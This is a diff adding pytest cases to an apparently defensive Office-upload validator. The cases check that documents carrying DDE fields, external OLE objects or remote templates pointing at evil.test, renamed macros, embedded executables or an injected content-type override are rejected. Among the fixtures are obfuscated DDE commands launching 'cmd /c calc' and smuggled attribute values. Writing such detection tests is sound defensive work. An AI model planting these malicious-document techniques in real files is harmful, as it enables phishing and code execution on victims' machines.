@@ -96,6 +96,13 @@ def test_a_file_made_to_take_long_takes_little(satuan: bytes) -> None:
 
 
 _DDE = b'<externalLink xmlns="x"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
+_HUBUNGAN = (
+    b'<Relationships><Relationship Id="r9" Target="http://evil.test/x" Type="http://schemas.'
+    b'openxmlformats.org/officeDocument/2006/relationships/%s"%s/></Relationships>'
+)
+_LUAR = b' TargetMode="External"'
+_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"x" * 50
+_RELS = "word/_rels/document.xml.rels"
 _DTD = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b "c">]><worksheet/>'
 
 
@@ -108,6 +115,41 @@ _DTD = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b "c">]><worksheet/>'
             "DDE",
             id="dde field",
         ),
+        pytest.param(
+            {"word/a.xml": b'<w:fldSimple w:dirty="1" w:instr=" DDEAUTO c: k"/>'},
+            "DDE",
+            id="simple field",
+        ),
+        pytest.param(
+            {"word/a.xml": b"<w:instrText>DD</w:instrText><w:instrText>E c</w:instrText>"},
+            "DDE",
+            id="field in two pieces",
+        ),
+        pytest.param(
+            {"word/a.xml": b"<w:instrText>D&#68;E<!-- x -->AUTO c</w:instrText>"},
+            "DDE",
+            id="field with a letter by number and a comment",
+        ),
+        pytest.param(
+            {"word/a.bin": b"<a>" + b" " * 2_000_000 + b"<w:instrText>DDE c</w:instrText>"},
+            "DDE",
+            id="field far behind, in a part by another name",
+        ),
+        pytest.param(
+            {"word/a.xml": b"<a><![CDATA[<!--]]><w:instrText>DDE c</w:instrText></a>"},
+            "tidak wajar",
+            id="field behind what looks like a comment",
+        ),
+        pytest.param({_RELS: _HUBUNGAN % (b"oleObject", _LUAR)}, "OLE", id="object from elsewhere"),
+        pytest.param({_RELS: _HUBUNGAN % (b"oleObject", b"")}, "OLE", id="object inside"),
+        pytest.param({_RELS: _HUBUNGAN % (b"image", _LUAR)}, "komputer lain", id="far picture"),
+        pytest.param(
+            {_RELS: _HUBUNGAN % (b"attachedTemplate", _LUAR.replace(b"E", b"&#x45;"))},
+            "komputer lain",
+            id="far template, spelled by number",
+        ),
+        pytest.param({"word/v.bin": _OLE}, "makro", id="macro by another name"),
+        pytest.param({"word/embeddings/o.bin": b"MZ" * 40}, "program", id="program inside"),
         pytest.param({"xl/worksheets/sheet1.xml": _DTD}, "tidak wajar", id="dtd"),
         pytest.param(
             {"xl/worksheets/sheet1.xml": _DTD.decode().encode("utf-16")}, "tidak wajar", id="utf-16"
@@ -117,6 +159,26 @@ _DTD = b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY b "c">]><worksheet/>'
 def test_an_office_file_that_reaches_out_is_refused(anggota: dict[str, bytes], kata: str) -> None:
     with pytest.raises(BerkasDitolak, match=kata):
         tentukan_tipe(io.BytesIO(contoh.docx(anggota)))
+
+
+def test_a_part_that_is_said_to_be_a_macro_is_refused() -> None:
+    tipe = 'x"/><Override PartName="/word/v.bin" ContentType="application/vnd.ms-office.vbaProject'
+    utama = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
+    with pytest.raises(BerkasDitolak, match="makro"):
+        tentukan_tipe(io.BytesIO(contoh.docx(utama=f'{utama}"/><Override ContentType="{tipe}')))
+
+
+@pytest.mark.parametrize(
+    "anggota",
+    [
+        {_RELS: _HUBUNGAN % (b"hyperlink", _LUAR)},
+        {_RELS: _HUBUNGAN % (b"image", b"")},
+        {"word/a.xml": b"<w:t>DDE</w:t><w:instrText> HYPERLINK x </w:instrText>"},
+        {"word/media/image1.png": contoh.gambar()},
+    ],
+)
+def test_what_ordinary_office_files_hold_is_taken(anggota: dict[str, bytes]) -> None:
+    assert tentukan_tipe(io.BytesIO(contoh.docx(anggota))) is TipeBerkas.DOCX
 
 
 @pytest.mark.parametrize("awal", [b"<w:instrText ", b"<Relationship ", b"<x:ddeLin"])
